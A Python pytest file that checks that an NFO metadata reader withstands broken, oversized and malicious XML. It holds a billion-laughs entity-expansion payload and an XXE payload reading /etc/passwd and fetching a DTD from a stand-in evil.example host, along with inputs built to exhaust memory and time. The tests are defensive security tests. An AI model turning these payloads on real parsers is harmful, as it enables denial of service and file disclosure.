"""Files that are broken, enormous or made to do harm: read as far as they go, in short time."""

import socket
import time
import tracemalloc
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rustfin_core.intelligence.nfo import MAX_BYTES, read_nfo, write_nfo
from rustfin_core.intelligence.nfo.roots import ROOT_NAMES
from rustfin_core.kernel.enums import ItemKind

K = ItemKind
GOOD = "<movie><title>Some Film</title><year>2001</year></movie>"


@pytest.fixture(autouse=True)
def _no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: Any, **__: Any) -> None:
        raise AssertionError("a name was looked up or a connection opened")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' if n else '<!ENTITY lol0 "lol">'
        for n in range(10)
    )
    + "]><movie><title>Some Film</title><plot>&lol9;</plot><year>2001</year></movie>"
)
EXTERNAL = (
    '<!DOCTYPE movie [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM '
    '"http://evil.example/y.dtd">%y;]><movie><title>Some Film</title><plot>&x;</plot></movie>'
)


def test_entities_are_never_expanded() -> None:
    result = read_nfo(BILLION_LAUGHS.encode(), K.MOVIE)
    assert (result.record.title, result.record.year) == ("Some Film", 2001)
    assert result.record.overview == "&lol9;"
    assert result.problems == (
        "The file declares a document type or entities; they were not used.",
    )


def test_external_entities_are_never_fetched() -> None:
    result = read_nfo(EXTERNAL.encode(), K.MOVIE)
    assert (result.record.title, result.record.overview) == ("Some Film", "&x;")
    assert "root:" not in str(result)
    dtd = '<!DOCTYPE movie SYSTEM "http://evil.example/m.dtd">' + GOOD
    assert read_nfo(dtd.encode(), K.MOVIE).record.title == "Some Film"


@pytest.mark.parametrize("where", ["before", "inside", "utf-16"])
def test_a_document_type_does_not_hide(where: str) -> None:
    declaration = '<!DocType movie [<!ENTITY t "Other">]>'
    text = {
        "before": f"{declaration}<movie><title>&t;</title></movie>",
        "inside": f"<movie>{declaration}<title>&t;</title></movie>",
        "utf-16": f"{declaration}<movie><title>&t;</title></movie>",
    }[where]
    data = text.encode("utf-16" if where == "utf-16" else "utf-8")
    assert read_nfo(data, K.MOVIE).record.title == "&t;"


@pytest.mark.parametrize(
    ("text", "title"),
    [
        ("<movie><title>Tom & Jerry</title></movie>", "Tom & Jerry"),
        ("<movie><title>Tom &amp Jerry</title></movie>", "Tom &amp Jerry"),
        ("<movie><title>Caf&eacute; &nbsp;&#233;&#xE9;</title></movie>", "Café éé"),
        ("<movie><title>1 < 2 > 0</title></movie>", "1 < 2 > 0"),
        ("<movie><title>A&#0;B&#xD800;C&#1114112;&#9999999;</title></movie>", "ABC"),
        ("<movie><title>A\x00B\x0bC\x1f</title></movie>", "ABC"),
        ("<movie><title>A</tilte><year>2001</year></movie>", "A"),
        ("<movie><title>A<year>2001</year></movie>", "A"),
        ("<movie><title>A</title><plot>x</b></plot></movie>", "A"),
        ('<movie><thumb aspect="poster>x</thumb><title>A</title></movie>', "A"),
        ("<movie><title lang=en>A</title></movie>", "A"),
        ("<movie><TITLE>A</title></movie>", "A"),
        ("<movie><title>A</title>", "A"),
        ("<movie><title>A</title><plot>cut off in the mid", "A"),
        ("<movie><title>A</title></movie", "A"),
        ("<movie><title>A</title></movie></movie></x>", "A"),
        ("<movie><title>A</title><!-- no end <plot>x</plot></movie>", "A"),
        ("<movie><title><![CDATA[A & <B>]]></title>&</movie>", "A & <B>"),
        ("<movie><title><![CDATA[A", None),
        ("<movie><foo:title>A</foo:title></movie>", "A"),
        ("<movie><title>A</title><?php echo 1 ?>&</movie>", "A"),
        ("<movie><title>Half a ti", None),
    ],
)
def test_broken_markup_is_read_as_far_as_it_goes(text: str, title: str | None) -> None:
    assert read_nfo(text.encode(), K.MOVIE).record.title == title


def test_what_is_cut_off_is_left_out_and_said() -> None:
    whole = (
        "<movie><title>Some Film</title><year>2001</year>"
        "<actor><name>Ann</name><role>Zed</role></actor><plot>Long story.</plot></movie>"
    )
    for end in range(len(whole)):
        result = read_nfo(whole[:end].encode(), K.MOVIE)
        record = result.record
        assert record.title in (None, "Some Film")
        assert record.year in (None, 2001)
        assert record.overview in (None, "Long story.")
        assert [one.name for one in record.people] in ([], ["Ann"])
        assert result.problems


def test_a_forgotten_closing_tag_does_not_swallow_what_follows() -> None:
    text = "<movie><title>A<year>2001</year><actor><name>Ann</name></actor></movie>"
    record = read_nfo(text.encode(), K.MOVIE).record
    assert (record.title, record.year, len(record.people)) == ("A", 2001, 1)
    text = "<movie><title>A</title><actor><name>Ann</name></movie>"
    record = read_nfo(text.encode(), K.MOVIE).record
    assert (record.title, [one.name for one in record.people]) == ("A", ["Ann"])


ACCENTS = "<movie><title>Café “Élan” – Ω</title></movie>"
LATIN = "<movie><title>Café Élan</title></movie>"


def _declared(encoding: str, title: str) -> bytes:
    text = f'<?xml version="1.0" encoding="{encoding}"?><movie><title>{title}</title></movie>'
    return text.encode(encoding)


@pytest.mark.parametrize(
    ("data", "title"),
    [
        (ACCENTS.encode("utf-8"), "Café “Élan” – Ω"),
        (ACCENTS.encode("utf-8-sig"), "Café “Élan” – Ω"),
        (ACCENTS.encode("utf-16"), "Café “Élan” – Ω"),
        (ACCENTS.encode("utf-16-le"), "Café “Élan” – Ω"),
        (ACCENTS.encode("utf-16-be"), "Café “Élan” – Ω"),
        (ACCENTS.encode("utf-32"), "Café “Élan” – Ω"),
        (LATIN.encode("latin-1"), "Café Élan"),
        (LATIN.encode("cp1252"), "Café Élan"),
        (b"<?xml version='1.0' encoding='iso-8859-1'?>" + LATIN.encode("latin-1"), "Café Élan"),
        (b"<?xml version='1.0' encoding='iso-8859-1'?>" + LATIN.encode("utf-8"), "Café Élan"),
        (b"<?xml version='1.0' encoding='utf-8'?>" + LATIN.encode("latin-1"), "Café Élan"),
        (b"<?xml version='1.0' encoding='utf-16'?>" + LATIN.encode("utf-8"), "Café Élan"),
        (_declared("windows-1251", "Брат"), "Брат"),
        (_declared("shift_jis", "七人の侍"), "七人の侍"),
        (_declared("iso-2022-jp", "七人の侍"), "七人の侍"),
        (
            "<movie><title>Café Élan</title><plot>".encode() + b"\xff bad" + b"</plot></movie>",
            "Café Élan",
        ),
        (b"<?xml version='1.0' encoding='utf-7'?><movie><title>A+AGE-</title></movie>", "A+AGE-"),
        (b"<?xml version='1.0' encoding='rot13'?><movie><title>A</title></movie>", "A"),
        (b"<?xml version='1.0' encoding='hex'?><movie><title>\xe9</title></movie>", "é"),
        (b"<?xml version='1.0' encoding='nope'?><movie><title>A</title></movie>", "A"),
    ],
)
def test_encodings(data: bytes, title: str) -> None:
    assert read_nfo(data, K.MOVIE).record.title == title


def test_utf7_does_not_hide_markup() -> None:
    data = b"<?xml version='1.0' encoding='utf-7'?>+ADw-movie+AD4-"
    assert not read_nfo(data, K.MOVIE).says_something


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (b"", "The file is empty."),
        (b" \r\n\t", "The file is empty."),
        (b"\x00" * 500, "The file holds no metadata that could be read."),
        (b"just words", "The file holds no metadata that could be read."),
        (b"<movie", "The file holds no metadata that could be read."),
        (
            b"<!DOCTYPE html><html><head><title>404</title></head><body>"
            b"<a href='https://www.imdb.com/title/tt0944947/'>x</a></body></html>",
            "The file is a web page, not an NFO file.",
        ),
    ],
)
def test_nothing_to_read(data: bytes, problem: str) -> None:
    result = read_nfo(data, K.MOVIE)
    assert not result.says_something
    assert problem in result.problems


def _filled(start: str, piece: str, end: str = "") -> bytes:
    return (start + piece * (MAX_BYTES // len(piece)) + end).encode()


ENORMOUS = {
    "flat": _filled("<movie><title>Some Film</title>", "<a/>"),
    "attributes": _filled("<movie><title>Some Film</title>", '<a b="c"/>'),
    "many attributes": (
        "<movie " + " ".join(f'a{n}="1"' for n in range(150_000)) + "><title>x</title></movie>"
    ).encode(),
    "deep": _filled("", "<a>"),
    "deep and closed": b"<a>" * 100_000 + b"</a>" * 100_000,
    "less than": _filled("<movie>", "<"),
    "closing": _filled("<movie>" + "<a>" * 20, "</b>"),
    "comments": _filled("<movie>", "<!--"),
    "sections": _filled("<movie>", "<![CDATA["),
    "instructions": _filled("<movie>", "<?xml "),
    "ampersands": _filled("<movie><title>", "&a"),
    "quotes": _filled("<movie>", "<a '"),
    "a long name": _filled("<", "a", ">"),
    "attribute without end": _filled("<movie ", "a", ">"),
    "markup in texts": _filled("<movie><plot>", "[COLOR &lt;b "),
    "unclosed": _filled("<movie>", "<title>a"),
    "links": _filled("", "anidb.net/thetvdb.com/?themoviedb.org/movie/tt12"),
    "declarations": _filled("<!DOCTYPE x [", "<!ENTITY a 'b'>", "]><movie/>"),
    "episodes": b"<episodedetails><episode>1</episode></episodedetails>" * 9000,
    "names": ("<movie><director>" + "Jr.," * 200_000 + "</director></movie>").encode(),
    "undecodable": b"\xff" * MAX_BYTES,
}


@pytest.mark.parametrize("name", ENORMOUS)
def test_enormous_files_take_little_time(name: str) -> None:
    started = time.process_time()
    read_nfo(ENORMOUS[name], K.MOVIE)
    # Most take a tenth of a second, none a whole one; what grows with the square takes minutes.
    assert time.process_time() - started < 20


@pytest.mark.parametrize("name", ["flat", "many attributes", "deep", "unclosed"])
def test_enormous_files_take_little_memory(name: str) -> None:
    """Elements and attributes beyond the limits are not kept."""
    tracemalloc.start()
    try:
        read_nfo(ENORMOUS[name], K.MOVIE)
        assert tracemalloc.get_traced_memory()[1] < 24 * MAX_BYTES
    finally:
        tracemalloc.stop()


def test_the_time_grows_with_the_size_only() -> None:
    """Four times the bytes must not take sixteen times as long."""
    for piece in ("<a '", "</b>", "<", "&a", "<title>a", "<a>t</a>u"):
        times = []
        for size in (100_000, 400_000):
            data = ("<movie>" + "<a>" * 5 + piece * (size // len(piece))).encode()
            runs = []
            for _ in range(3):
                started = time.process_time()
                read_nfo(data, K.MOVIE)
                runs.append(time.process_time() - started)
            times.append(min(runs))
        assert times[1] < 10 * times[0] + 0.05


def test_a_file_over_the_limit_is_read_up_to_it() -> None:
    data = b"<movie><title>Some Film</title><plot>" + b"x" * (3 * MAX_BYTES) + b"</plot></movie>"
    result = read_nfo(data, K.MOVIE)
    assert (result.record.title, result.record.overview) == ("Some Film", None)
    assert result.problems[0] == "The file is larger than 2 MiB; the rest was not read."


def test_too_many_elements_and_too_deep_nesting_are_said() -> None:
    many = "<movie><title>Some Film</title>" + "<a/>" * 30_000 + "</movie>"
    deep = "<movie><title>Some Film</title>" + "<a>" * 100 + "</a>" * 100 + "</movie>"
    for text in (many, deep):
        result = read_nfo(text.encode(), K.MOVIE)
        assert result.record.title == "Some Film"
        assert any("more than 20000 elements or nests deeper" in one for one in result.problems)


def test_lists_and_texts_are_bounded() -> None:
    inner = "".join(
        f"<genre>g{n}</genre><tag>t{n}</tag><trailer>http://a.example/{n}</trailer>"
        for n in range(1000)
    )
    text = f"<movie><title>{'x' * 5000}</title><plot>{'y' * 90_000}</plot>{inner}</movie>"
    record = read_nfo(text.encode(), K.MOVIE).record
    assert record.title is not None
    assert record.overview is not None
    assert (len(record.title), len(record.overview)) == (1000, 50_000)
    assert (len(record.genres), len(record.tags), len(record.trailers)) == (200, 200, 50)


KINDS = st.sampled_from(sorted(ItemKind))


@given(st.binary(max_size=400), KINDS)
def test_any_bytes(data: bytes, kind: ItemKind) -> None:
    read_nfo(data, kind)


MARKUP = (
    "<movie> </movie> <title> </title> <actor> </actor> <name> <set> </set> <ratings> <rating "
    "max='0'> </rating> <value> </value> <thumb> <fanart url='http://[x'> <id TMDB='x'> "
    "<uniqueid type='imdb'> </uniqueid> <resume> <position> <season> <episode> <dateadded> "
    '9999-12-31T23:59:59-23:00 <episodeguide> {"a":{}} [] <albumArtistCredits> <artist> '
    "<tvshow> </tvshow> <episodedetails> </episodedetails> <album> <br/> <![CDATA[ ]]> <!-- "
    "--> <!DOCTYPE &amp; &x; & < > ' \" \x00 1e999 inf nan -1 0 7,5 ١ tt1234567 "
    "http://a.example/x plugin://plugin.video.youtube/?video_id= <year> <runtime> 1:2:3 "
    "<plot> </plot> <mpaa> US: / Rated <fileinfo> <streamdetails> <video> <width> <season/> "
    "<namedseason number='1'> <airs_dayofweek> <lockedfields> | <art> <sets> <cast>"
)
PIECES = st.lists(st.sampled_from(MARKUP.split(" ")), max_size=40).map("".join)


@given(PIECES, KINDS)
def test_any_mixture_of_markup(text: str, kind: ItemKind) -> None:
    result = read_nfo(text.encode(), kind)
    assert result.record.kind is kind
    if kind in ROOT_NAMES:
        written = write_nfo(result.record, kind, existing=text.encode())
        assert not read_nfo(written, kind).problems
        assert write_nfo(result.record, kind, existing=written).startswith(b"<?xml")
